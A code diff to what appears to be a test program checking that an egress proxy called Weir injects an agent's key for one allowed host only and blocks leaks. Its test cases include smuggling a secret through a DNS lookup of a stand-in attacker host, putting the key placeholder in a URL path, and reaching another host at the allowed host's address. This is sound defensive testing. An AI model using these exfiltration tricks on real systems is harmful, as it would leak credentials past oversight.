@@ -13,10 +13,12 @@ from collections.abc import Callable
 from pathlib import Path
 
 PAUSE = 30.0
+PLACEHOLDER = "the-key-of-the-agent"
+"""What this program has in the place of a key: Weir puts the key there on the way, for one host alone."""
 
 
-def get(host: str, address: str | None = None) -> str:
-    """One HTTPS request. `address`: connect there, whatever DNS says of the host."""
+def get(host: str, address: str | None = None, path: str = "/", key: str = PLACEHOLDER) -> str:
+    """One HTTPS request, whose answer must be no error. `address`: connect there, whatever DNS says of the host."""
     context = ssl.create_default_context()
     with (
         socket.create_connection((address or host, 443), timeout=10) as plain,
@@ -24,9 +26,11 @@ def get(host: str, address: str | None = None) -> str:
     ):
         connection = http.client.HTTPConnection(host)
         connection.sock = secured
-        connection.request("GET", "/")
+        connection.request("GET", path, headers={"Authorization": f"Bearer {key}"})
         answer = connection.getresponse()
         answer.read()
+        if answer.status >= 400:
+            raise http.client.HTTPException(f"status {answer.status}")
         return str(answer.status)
 
 
@@ -46,6 +50,9 @@ def attempts(allowed: str, other: str) -> dict[str, tuple[Callable[[], str], boo
     address = str(socket.getaddrinfo(allowed, 443, type=socket.SOCK_STREAM)[0][4][0])
     return {
         "the allowed host": (lambda: get(allowed), True),
+        "an account of the allowed host, by a key that is not here": (lambda: get(allowed, path="/account"), True),
+        "the same with a key that is made up": (lambda: get(allowed, path="/account", key="made-up"), False),
+        "what stands for the key, in a path": (lambda: get(allowed, path=f"/{PLACEHOLDER}"), False),
         "another host": (lambda: get(other), False),
         "another host, at the address of the allowed one": (lambda: get(other, address), False),
         "a secret in a DNS name": (lambda: str(socket.getaddrinfo("a-secret.attacker.example", 443)), False),
